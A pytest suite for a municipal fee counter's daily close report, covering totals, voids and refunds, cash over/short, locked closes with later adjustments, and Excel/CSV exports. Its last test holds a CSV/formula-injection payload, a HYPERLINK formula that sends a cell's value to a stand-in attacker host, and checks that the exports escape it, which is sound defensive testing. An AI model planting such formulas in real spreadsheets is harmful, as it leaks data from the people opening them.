"""Day close (日次処理表): totals, voids/refunds, 処理未了, cash over/short,
closing and adjustments, the workbook and the CSV — on a real Store with
payments stored through the real ledger (``Ledger.apply_event``)."""

from __future__ import annotations

import csv
import inspect
import io
import sqlite3
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bus.models import PaymentState
from central import accounting_cli
from central import config as central_config
from central.dayclose import (
    DayClose,
    DayCloseError,
    detail_csv,
    record_late_changes,
    summary_csv,
    workbook_bytes,
)
from central.ledger import Ledger
from central.store import Store
from tests.support.daydata import at, demo_day, event

REPO = Path(__file__).resolve().parents[2]
DAY = "2026-11-20"


@pytest.fixture(scope="module")
def loaded():
    return central_config.load(REPO / "config" / "central.toml")


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "central.db")
    yield s
    s.close()


class Clock:
    def __init__(self, when):
        self.when = when

    def __call__(self):
        return self.when


@pytest.fixture
def clock():
    return Clock(at(DAY, "17:40"))


@pytest.fixture
def ledger(store, loaded):
    return Ledger(store, loaded.site, loaded.catalog)


@pytest.fixture
def dc(store, loaded, clock):
    return DayClose(store, loaded.site, loaded.catalog, clock=clock)


def pay(ledger, catalog, **kw):
    ev = event(catalog, **kw)
    assert ledger.apply_event(f"counter-{ev.counter}", ev)
    return ev


def base_day(ledger, catalog):
    """Six sales: every method, two counters, four accounts, a two-line payment."""
    c = catalog
    return {
        "cash600": pay(ledger, c, counter="1", items=[("juminhyo", 2)], method="cash", txn_at=at(DAY, "09:01"), tendered=1000),
        "visa450": pay(ledger, c, counter="3", items=[("koseki-zenbu", 1)], method="credit", brand="visa",
                       txn_at=at(DAY, "09:30"), slip_no="0001"),
        "ic3000": pay(ledger, c, counter="3", items=[("inu-toroku", 1)], method="emoney", brand="transit_ic",
                      txn_at=at(DAY, "10:05"), slip_no="0002"),
        "qr100": pay(ledger, c, counter="1", items=[("joho-copy-mono", 10)], method="qr", brand="paypay",
                     txn_at=at(DAY, "11:00"), slip_no="0003"),
        "cash1000": pay(ledger, c, counter="1", items=[("mynumber-saikofu", 1)], method="cash", txn_at=at(DAY, "13:10")),
        "cash800": pay(ledger, c, counter="1", items=[("juminhyo", 1), ("sodai-500", 1)], method="cash",
                       txn_at=at(DAY, "14:20")),
    }


def by(rows, key, value):
    return next(r for r in rows if r[key] == value)


# =========================================================================== figures


def test_totals_by_account_item_method_brand_counter_add_up(ledger, dc, loaded):
    base_day(ledger, loaded.catalog)
    s = dc.sheet(DAY)
    assert s["status"] == "open"
    assert s["summary"]["revenue"] == {"count": 6, "amount": 5950}
    assert s["summary"]["sales"] == {"count": 6, "amount": 5950}
    accounts = {a["code"]: a["amount"] for a in s["by_account"]}
    assert accounts == {"13-02-01": 600 + 450 + 1000 + 300, "13-02-03": 3000 + 500, "13-02-07": 0, "21-05-01": 100}
    assert by(s["by_account"], "code", "13-02-01")["count"] == 4  # payments touching the account
    methods = {m["method"]: m["amount"] for m in s["by_method"]}
    assert methods == {"cash": 2400, "credit": 450, "emoney": 3000, "qr": 100}
    assert {(b["method"], b["brand"]): b["amount"] for b in s["by_brand"]} == {
        ("credit", "visa"): 450, ("emoney", "transit_ic"): 3000, ("qr", "paypay"): 100}
    counters = {c["counter"]: (c["count"], c["amount"], c["cash"]) for c in s["by_counter"]}
    assert counters == {"1": (4, 2500, 2400), "2": (0, 0, 0), "3": (2, 3450, 0)}
    juminhyo = by(s["by_item"], "code", "juminhyo")
    assert (juminhyo["count"], juminhyo["quantity"], juminhyo["amount"]) == (2, 3, 900)
    copies = by(s["by_item"], "code", "joho-copy-mono")
    assert (copies["count"], copies["quantity"], copies["amount"]) == (1, 10, 100)
    total = s["summary"]["revenue"]["amount"]
    for table in ("by_account", "by_item", "by_method", "by_counter"):
        assert sum(r["amount"] for r in s[table]) == total, table
    assert sum(b["amount"] for b in s["by_brand"]) == total - methods["cash"]
    assert s["cash"]["expected"] == 2400
    assert len(s["payments"]) == 6


def test_a_void_and_a_refund_reduce_the_day(ledger, dc, loaded):
    c = loaded.catalog
    sales = base_day(ledger, c)
    edy = pay(ledger, c, counter="1", items=[("koseki-zenbu", 1)], method="emoney", brand="edy",
              txn_at=at(DAY, "15:00"), slip_no="0004")
    visa = sales["visa450"]
    # Same-day void of the VISA sale at the terminal, and the cash 600 voided at the counter.
    pay(ledger, c, counter="3", kind="void", original_id=str(visa.payment_id), method="credit", brand="visa",
        amount=450, txn_at=at(DAY, "09:35"), slip_no="0005")
    ledger.apply_event("counter-3", visa.model_copy(update={"version": 2, "state": PaymentState.VOIDED}))
    cash = sales["cash600"]
    pay(ledger, c, counter="1", kind="void", original_id=str(cash.payment_id), method="cash", amount=600,
        txn_at=at(DAY, "09:05"))
    # Edy cannot be voided: paid back in cash (返金).
    pay(ledger, c, counter="1", kind="refund", original_id=str(edy.payment_id), method="cash", brand="edy",
        amount=450, txn_at=at(DAY, "15:20"))
    s = dc.sheet(DAY)
    sm = s["summary"]
    assert sm["sales"] == {"count": 7, "amount": 6400}
    assert sm["voids"] == {"count": 2, "amount": 1050}
    assert sm["refunds"] == {"count": 1, "amount": 450}
    assert sm["revenue"] == {"count": 4, "amount": 6400 - 1050 - 450}
    methods = {m["method"]: m["amount"] for m in s["by_method"]}
    assert methods["credit"] == 0
    assert methods["emoney"] == 3450  # the Edy sale stays e-money revenue ...
    assert methods["cash"] == 2400 - 600 - 450  # ... its refund left the cash drawer
    assert s["cash"] == {**s["cash"], "sales": 2400, "voids": 600, "refunds": 450, "expected": 1350}
    for table in ("by_account", "by_item", "by_method", "by_counter"):
        assert sum(r["amount"] for r in s[table]) == sm["revenue"]["amount"], table
    assert by(s["by_item"], "code", "koseki-zenbu")["amount"] == 450 + 450 - 450 - 450
    assert {v["original_id"] for v in s["voids"]} == {str(visa.payment_id), str(cash.payment_id)}
    assert [r["original_id"] for r in s["refunds"]] == [str(edy.payment_id)]
    assert all(v["effect"] < 0 for v in s["voids"] + s["refunds"])


def test_unknown_and_pending_are_listed_not_counted(ledger, dc, loaded):
    c = loaded.catalog
    base_day(ledger, c)
    unknown = pay(ledger, c, counter="1", items=[("juminhyo", 1)], method="emoney", brand="transit_ic", state="unknown",
                  txn_at=at(DAY, "15:42"), reason="completion_lost")
    pay(ledger, c, counter="3", items=[("juminhyo", 5)], method="credit", brand="visa", state="declined",
        txn_at=at(DAY, "16:00"), reason="declined")
    s = dc.sheet(DAY)
    assert s["summary"]["revenue"]["amount"] == 5950
    assert s["summary"]["pending"] == {"count": 1, "amount": 300}
    assert s["summary"]["declined"]["count"] == 1
    [p] = s["pending"]
    assert p["payment_id"] == str(unknown.payment_id) and p["state"] == "unknown" and not p["counted"]
    assert "交通系IC" in p["rule_ja"]
    assert {m["method"]: m["amount"] for m in s["by_method"]}["emoney"] == 3000


def test_cash_over_short_with_denominations_and_change_fund(ledger, dc, loaded):
    base_day(ledger, loaded.catalog)  # cash expected 2,400
    with pytest.raises(DayCloseError) as exc:
        dc.close(DAY, closed_by="K01", denominations={1000: 32, 100: 3}, change_fund=30000, counted_cash=2400)
    assert exc.value.code == "invalid"  # 32,300 − 30,000 = 2,300 ≠ 2,400
    with pytest.raises(DayCloseError):
        dc.close(DAY, closed_by="K01", denominations={2500: 1})
    with pytest.raises(DayCloseError):
        dc.close(DAY, closed_by="K01")  # nothing counted
    s = dc.close(DAY, closed_by="K01", denominations={10000: 3, 1000: 2, 100: 3}, change_fund=30000)
    assert s["cash"]["counted"] == 2300
    assert s["cash"]["over_short"] == -100
    assert [d["yen"] for d in s["cash"]["denominations"]] == [10000, 1000, 100]
    assert dc.closes()[0]["over_short"] == -100


def test_bad_input_is_refused(dc):
    for day in ("2026-13-01", "20261120", "", "2026-11-20x"):
        with pytest.raises(DayCloseError) as exc:
            dc.close(day, closed_by="K01", counted_cash=0)
        assert exc.value.code == "invalid"
    for staff in ("", "k 1", "x" * 21):
        with pytest.raises(DayCloseError):
            dc.close(DAY, closed_by=staff, counted_cash=0)
    with pytest.raises(DayCloseError):
        dc.close(DAY, closed_by="K01", counted_cash=-1)
    with pytest.raises(DayCloseError) as exc:
        dc.close("2026-11-21", closed_by="K01", counted_cash=0)
    assert exc.value.code == "too_early"


# =========================================================================== closing and adjustments


def test_closing_locks_the_day_and_a_late_payment_becomes_an_adjustment(ledger, dc, loaded, store, clock):
    c = loaded.catalog
    sales = base_day(ledger, c)
    unknown = pay(ledger, c, counter="1", items=[("juminhyo", 1)], method="emoney", brand="transit_ic", state="unknown",
                  txn_at=at(DAY, "15:42"))
    closed = dc.close(DAY, closed_by="K01", counted_cash=2400)
    assert closed["status"] == "closed" and closed["close"]["verified"]
    row = store.conn.execute("SELECT snapshot, sha256 FROM day_closes WHERE day = ?", (DAY,)).fetchone()
    snapshot, digest = row["snapshot"], row["sha256"]

    with pytest.raises(DayCloseError) as exc:
        dc.close(DAY, closed_by="K02", counted_cash=9999)
    assert exc.value.code == "closed"

    # The next morning: the transit-IC payment turns out approved, and a cash
    # void of yesterday's sale arrives from a Pi that was offline.
    clock.when = at("2026-11-21", "09:00")
    ledger.apply_event("counter-1", unknown.model_copy(update={"version": 2, "state": PaymentState.APPROVED,
                                                                "slip_no": "0009"}))
    pay(ledger, c, counter="1", kind="void", original_id=str(sales["cash600"].payment_id), method="cash", amount=600,
        txn_at=at(DAY, "17:30"))
    s = dc.sheet(DAY)
    # The closed figures are what was closed, to the byte.
    row = store.conn.execute("SELECT snapshot, sha256 FROM day_closes WHERE day = ?", (DAY,)).fetchone()
    assert (row["snapshot"], row["sha256"]) == (snapshot, digest)
    assert dc.verify(DAY)
    assert s["summary"]["revenue"]["amount"] == closed["summary"]["revenue"]["amount"] == 5950
    assert s["cash"]["expected"] == 2400 and s["close"]["sha256"] == digest
    adj = {a["payment_id"]: a for a in s["adjustments"]}
    assert adj[str(unknown.payment_id)]["amount"] == 300
    assert adj[str(unknown.payment_id)]["account_code"] == "13-02-01"
    assert adj[str(unknown.payment_id)]["state_before"] == "unknown"
    assert adj[str(unknown.payment_id)]["state_after"] == "approved"
    void = next(a for a in s["adjustments"] if a["payment_id"] not in (str(unknown.payment_id),))
    assert (void["amount"], void["cash_expected"]) == (-600, -600)
    # Booked on the next open day (the ledger's hook dates it by the wall clock).
    booked = {a["booked_day"] for a in s["adjustments"]}
    assert len(booked) == 1 and min(booked) >= "2026-11-21"
    assert all(a["kind"] == "late_event" for a in s["adjustments"])
    assert s["adjusted"]["revenue"] == 5950 + 300 - 600
    assert s["adjusted"]["over_short"] == 2400 - (2400 - 600)
    # Shown on the next open day, to be booked there.
    assert {a["id"] for a in dc.sheet(booked.pop())["booked_adjustments"]} == {a["id"] for a in s["adjustments"]}
    # Seeing the day again records nothing twice.
    assert dc.sweep(DAY) == 0
    assert len(dc.sheet(DAY)["adjustments"]) == 2

    # The tables refuse edits, even by hand.
    for sql in ("UPDATE day_closes SET revenue = 0", "DELETE FROM day_closes", "UPDATE day_adjustments SET amount = 0",
                "DELETE FROM day_close_entries"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"), store.transaction() as conn:
            conn.execute(sql)


@pytest.mark.xfail(
    "record_late_changes" not in inspect.getsource(Ledger.apply_event), strict=True,
    reason="central/ledger.py does not call dayclose.record_late_changes yet (the lead wires it)")
def test_the_ledger_records_a_late_event_in_the_same_transaction(ledger, dc, loaded, store, clock):
    c = loaded.catalog
    unknown = pay(ledger, c, counter="1", items=[("juminhyo", 1)], method="emoney", brand="waon", state="unknown",
                  txn_at=at(DAY, "15:42"))
    dc.close(DAY, closed_by="K01", counted_cash=0)
    ledger.apply_event("counter-1", unknown.model_copy(update={"version": 2, "state": PaymentState.APPROVED}))
    rows = store.conn.execute("SELECT amount, created_by FROM day_adjustments").fetchall()
    assert [(r["amount"], r["created_by"]) for r in rows] == [(300, "device:counter-1")]


def test_record_late_changes_is_idempotent_and_quiet_without_closes(ledger, dc, loaded, store):
    c = loaded.catalog
    ev = pay(ledger, c, counter="1", items=[("juminhyo", 1)], method="cash", txn_at=at(DAY, "10:00"))
    with store.transaction() as conn:
        assert record_late_changes(conn, loaded.site, c, [str(ev.payment_id)], source="test") == []
    dc.close(DAY, closed_by="K01", counted_cash=300)
    late = pay(ledger, c, counter="3", items=[("inu-toroku", 1)], method="cash", txn_at=at(DAY, "16:59"))
    with store.transaction() as conn:
        # (Once the ledger calls the hook itself, the first call finds nothing left to do.)
        record_late_changes(conn, loaded.site, c, [str(late.payment_id)], source="device:counter-3")
        again = record_late_changes(conn, loaded.site, c, [str(late.payment_id)], source="device:counter-3")
    assert again == []
    rows = store.conn.execute("SELECT amount, cash_expected, account_code, state_before, state_after FROM day_adjustments"
                              " WHERE payment_id = ?", (str(late.payment_id),)).fetchall()
    assert [tuple(r) for r in rows] == [(3000, 3000, "13-02-03", None, "approved")]


def test_a_closed_day_is_corrected_only_by_an_adjustment(ledger, dc, loaded, clock):
    base_day(ledger, loaded.catalog)
    with pytest.raises(DayCloseError) as exc:
        dc.adjust(DAY, by="K01", reason="before close", amount=100, account_code="13-02-01")
    assert exc.value.code == "open"
    dc.close(DAY, closed_by="K01", counted_cash=2390)
    clock.when = at("2026-11-23", "10:00")
    for bad in ({"reason": "", "amount": 100, "account_code": "13-02-01"}, {"reason": "x", "amount": 0},
                {"reason": "x", "amount": 100, "account_code": "99-99-99"},
                {"reason": "x", "kind": "cash_recount", "amount": 100, "account_code": "13-02-01"}):
        with pytest.raises(DayCloseError):
            dc.adjust(DAY, by="K01", **bad)
    a = dc.adjust(DAY, by="K07", reason="住民票 1 通を衛生手数料に誤って計上", amount=-300, account_code="13-02-03")
    b = dc.adjust(DAY, by="K07", reason="金庫の再実査で 10 円発見", kind="cash_recount", cash_counted=10)
    assert (a["created_by"], a["booked_day"]) == ("staff:K07", "2026-11-23")
    s = dc.sheet(DAY)
    assert [x["id"] for x in s["adjustments"]] == [a["id"], b["id"]]
    assert s["adjusted"]["revenue"] == 5950 - 300
    assert s["adjusted"]["over_short"] == 0  # −10 at the close, +10 found
    assert s["summary"]["revenue"]["amount"] == 5950  # the closed figures stay


def test_closes_are_chained(ledger, dc, loaded, clock):
    pay(ledger, loaded.catalog, items=[("juminhyo", 1)], txn_at=at("2026-11-19", "10:00"))
    clock.when = at("2026-11-19", "17:30")
    first = dc.close("2026-11-19", closed_by="K01", counted_cash=300)
    clock.when = at(DAY, "17:30")
    second = dc.close(DAY, closed_by="K01", counted_cash=0)
    assert first["close"]["prev_sha256"] is None
    assert second["close"]["prev_sha256"] == first["close"]["sha256"]
    assert dc.verify("2026-11-19") and dc.verify(DAY)


# =========================================================================== exports


def test_workbook_reads_back_with_sheets_figures_formats_and_print_setup(ledger, dc, loaded, tmp_path):
    figures = demo_day(ledger, loaded.catalog, DAY, payments=60, seed=3)
    s = dc.close(DAY, closed_by="K0107", counted_cash=figures["expected_cash"] - 10)
    path = tmp_path / "day.xlsx"
    path.write_bytes(workbook_bytes(s))
    wb = load_workbook(path)
    assert wb.sheetnames == ["日次処理表", "明細", "取消・返金", "処理未了", "調整"]
    ws = wb["日次処理表"]
    assert ws["A1"].value == "日次処理表（手数料等収納）"
    assert ws["A1"].font.name == "ＭＳ Ｐゴシック" and ws["A1"].font.b
    assert [ws[f"{c}1"].value for c in "DEF"] == ["課長", "係長", "担当"]
    assert "D2:D4" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["B2"].value.endswith(f"（{DAY}）") and ws["B2"].value.startswith("令和8年11月20日")
    assert "K0107" in ws["B4"].value
    cells = {ws.cell(row=r, column=1).value: r for r in range(1, ws.max_row + 1)}
    net = cells["差引収納額"]
    assert ws[f"F{net}"].value == s["summary"]["revenue"]["amount"] == figures["revenue"]
    assert ws[f"F{net}"].number_format == '#,##0;"△"#,##0'
    assert ws[f"D{net}"].number_format == "#,##0"
    for code in ("13-02-01", "13-02-03"):
        r = cells[code]
        assert ws[f"F{r}"].value == by(s["by_account"], "code", code)["amount"]
    expected_row = next(r for label, r in cells.items() if label and label.startswith("現金収納予定額"))
    assert ws[f"F{expected_row}"].value == figures["expected_cash"]
    over = next(r for label, r in cells.items() if label and label.startswith("過不足"))
    assert ws[f"F{over}"].value == -10
    # Print setup: A4 portrait, one page wide, title row repeated.
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.orientation == "portrait"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.print_title_rows == "$1:$1"
    detail = wb["明細"]
    assert detail.print_title_rows == "$1:$2" and detail.page_setup.orientation == "landscape"
    assert [c.value for c in detail[2]][:3] == ["時刻", "窓口", "区分"]
    assert detail.max_row == 2 + len(s["payments"]) + 1  # title, head, rows, 合計
    assert detail.cell(row=3, column=8).number_format == "#,##0"
    assert detail.cell(row=detail.max_row, column=9).value.startswith("=SUM(I3:I")
    assert sum(detail.cell(row=r, column=9).value for r in range(3, detail.max_row)) == figures["revenue"]
    voids = wb["取消・返金"]
    assert voids.max_row == 2 + len(s["voids"]) + len(s["refunds"]) + 1
    pending = wb["処理未了"]
    assert pending.cell(row=3, column=3).value == "処理未了" and pending.cell(row=3, column=7).value == 300


def test_csv_has_a_bom_and_sums_to_the_revenue(ledger, dc, loaded):
    figures = demo_day(ledger, loaded.catalog, DAY, payments=40, seed=5)
    s = dc.sheet(DAY)
    data = detail_csv(s)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0])[:5] == ["収納日", "締め", "時刻", "窓口", "支払ID"]
    assert sum(int(r["金額"]) for r in rows if r["計上"] == "1") == figures["revenue"] == s["summary"]["revenue"]["amount"]
    assert {r["区分"] for r in rows} == {"売上", "取消", "返金"}
    assert all(int(r["金額"]) < 0 for r in rows if r["区分"] != "売上")
    summary = summary_csv(s)
    assert summary.startswith(b"\xef\xbb\xbf")
    srows = list(csv.reader(io.StringIO(summary.decode("utf-8-sig"), newline="")))
    assert ["収納", "revenue", "差引収納額", str(s["summary"]["revenue"]["count"]), "", str(figures["revenue"])] in srows


# =========================================================================== CLI


def _cli(argv):
    import argparse

    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers()
    accounting_cli.close_day_command(sub)
    accounting_cli.report_command(sub)
    args = parser.parse_args(argv)
    return args.func(args)


def test_cli_close_day_and_report(tmp_path, loaded, capsys):
    db = tmp_path / "central.db"
    store = Store(db)
    ledger = Ledger(store, loaded.site, loaded.catalog)
    pay(ledger, loaded.catalog, items=[("juminhyo", 2)], txn_at=at(DAY, "10:00"))
    pay(ledger, loaded.catalog, items=[("inkan-shomei", 1)], method="qr", brand="paypay", txn_at=at(DAY, "11:00"), slip_no="1")
    store.close()
    config = tmp_path / "central.toml"
    config.write_text(f'[central]\nsite_file = "{REPO / "config" / "site.toml"}"\nfees_file = "{REPO / "config" / "fees.toml"}"\n'
                      f'brands_file = "{REPO / "config" / "brands.toml"}"\ndatabase = "{db}"\n')
    base = ["--config", str(config)]
    assert _cli(["report", "day", *base, "--date", DAY]) == 0
    assert "未締め" in capsys.readouterr().out
    xlsx, out_csv = tmp_path / "d.xlsx", tmp_path / "d.csv"
    assert _cli(["close-day", *base, "--date", DAY, "--counted-cash", "590", "--by", "K01",
                 "--xlsx", str(xlsx), "--csv", str(out_csv)]) == 0
    out = capsys.readouterr().out
    assert "締め済" in out and "900" in out and "-10" in out
    assert load_workbook(xlsx).sheetnames[0] == "日次処理表"
    assert out_csv.read_bytes().startswith(b"\xef\xbb\xbf")
    assert _cli(["close-day", *base, "--date", DAY, "--counted-cash", "600", "--by", "K01"]) == 65
    assert "締め済" in capsys.readouterr().err
    assert _cli(["close-day", *base, "--date", "2026-02-30", "--counted-cash", "0", "--by", "K01"]) == 65
    assert _cli(["close-day", *base, "--date", "2026-11-19", "--counted-cash", "abc", "--by", "K01"]) == 65
    assert _cli(["close-day", *base, "--date", "2026-11-19", "--denomination", "1000", "--by", "K01"]) == 65
    assert _cli(["report", "kpi", *base, "--from", DAY, "--to", "2026-11-01"]) == 65
    assert _cli(["report", "kpi", *base, "--from", "2026-11-16", "--to", DAY, "--csv", str(tmp_path / "k.csv")]) == 0
    assert (tmp_path / "k.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert _cli(["report", "day", "--config", str(tmp_path / "missing.toml"), "--date", DAY]) == 78
    assert _cli(["report", "day", *base, "--database", str(tmp_path / "nope.db"), "--date", DAY]) == 78
    assert not (tmp_path / "nope.db").exists()
    assert _cli(["report", "day", *base, "--date", DAY, "--xlsx", str(tmp_path / "no" / "dir.xlsx")]) == 74


def test_text_typed_by_staff_never_becomes_a_formula_in_the_exports(ledger, dc, loaded, clock):
    """CSV/formula injection: an adjustment reason typed on a page stays text
    in the workbook and the CSV (OWASP: a leading apostrophe in CSV)."""
    import io

    import openpyxl

    base_day(ledger, loaded.catalog)
    dc.close(DAY, closed_by="K01", counted_cash=2390)
    clock.when = at("2026-11-23", "10:00")
    evil = '=HYPERLINK("http://evil.example/?"&B3,"詳細")'
    dc.adjust(DAY, by="K07", reason=evil, amount=-300, account_code="13-02-03")
    s = dc.sheet(DAY)
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(s)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells, "the reason is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    # The only formulas are the workbook's own totals.
    formulas = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(f.startswith(("=SUM(", "=D", "=F")) for f in formulas), formulas
    text = summary_csv(s).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
